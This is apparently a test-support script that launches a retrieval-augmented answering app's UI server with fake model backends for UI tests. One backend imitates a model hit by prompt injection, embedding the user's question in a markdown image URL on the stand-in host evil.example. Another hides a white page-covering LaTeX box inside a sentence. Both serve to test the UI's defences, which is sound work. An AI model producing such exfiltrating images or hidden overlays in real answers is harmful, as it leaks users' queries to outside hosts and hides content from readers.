"""Start the real server for the UI tests, with one extra backend FOR TESTS ONLY:
``injected`` answers like a model that fell for a prompt injection (a markdown image whose URL
carries the question, and a link to an outside host) inside an otherwise supported sentence.

``slow`` streams the fake model's answer a word every 0.3 s (a slow local model).

``latex`` hides a page-covering LaTeX box (``\\rule{\\textwidth}{\\textheight}``) in a supported sentence
(no number or name in it, so the fact check lets the sentence through to the page).

Usage: python tests/ui/ui_server.py PORT  (settings from the RAG_ environment variables)
"""

from __future__ import annotations

import re
import sys
import time
from urllib.parse import quote_plus

from rag import register
from rag.answers.backends import ChatModelBackend
from rag.corpus.text import sentences
from rag.plugins.fake import FakeCitingChatModel

EVIL = "evil.example"


class InjectedChatModel(FakeCitingChatModel):
    def _answer(self, messages) -> str:
        prompt = str(messages[-1].content)
        source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', prompt, re.DOTALL)
        question = prompt.rsplit("Question:", 1)[-1].strip()
        first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote_plus(question.rstrip('?').lower())}) [1]. "
                f"See [the details](http://{EVIL}/more) and http://{EVIL}/raw for more [1].")


class LatexChatModel(FakeCitingChatModel):
    """Copies the first source sentence and hides a page-covering LaTeX box in it."""

    def _answer(self, messages) -> str:
        source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', str(messages[-1].content), re.DOTALL)
        first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
        return f"{first} $$\\color{{white}}{{\\rule{{\\textwidth}}{{\\textheight}}}}$$ [1]."


class SlowChatModel(FakeCitingChatModel):
    """The fake model, streaming a word every 0.3 s."""

    def _stream(self, messages, stop=None, run_manager=None, **kwargs):
        for chunk in super()._stream(messages, stop, run_manager, **kwargs):
            time.sleep(0.3)
            yield chunk


if __name__ == "__main__":
    register("injected", lambda settings: ChatModelBackend("injected", InjectedChatModel()))
    register("latex", lambda settings: ChatModelBackend("latex", LatexChatModel()))
    register("slow", lambda settings: ChatModelBackend("slow", SlowChatModel()))
    from ui.server import serve

    serve(port=int(sys.argv[1]))
